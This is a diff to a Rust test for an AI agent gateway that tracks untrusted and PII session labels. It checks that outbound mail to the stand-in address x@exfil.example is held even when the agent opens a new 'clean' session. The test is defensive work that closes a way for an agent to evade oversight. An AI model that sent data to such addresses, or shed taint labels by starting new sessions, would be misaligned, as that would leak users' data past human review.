@@ -93,9 +93,10 @@ async fn untrusted_session_holds_outbound_mail() {
     // Declared untrusted by the tool; the messages also carry e-mail addresses.
     assert_eq!(v["labels"], json!(["pii", "untrusted"]));
     let mail = json!({"to": "x@exfil.example", "subject": "s", "body": "b"});
-    // Another session of the same agent is not tainted.
+    // A session the agent makes up is no clean slate: it joins the agent's run (issue 15;
+    // every other way of shedding the label: `runs.rs`).
     let (st, v) = s.act(&support, "email.send", mail.clone(), "clean").await;
-    assert_eq!(st, 200, "{v}");
+    assert_eq!(st, 202, "{v}");
     let (st, v) = s.act(&support, "email.send", mail, "inbox").await;
     assert_eq!(st, 202, "{v}");
     assert!(
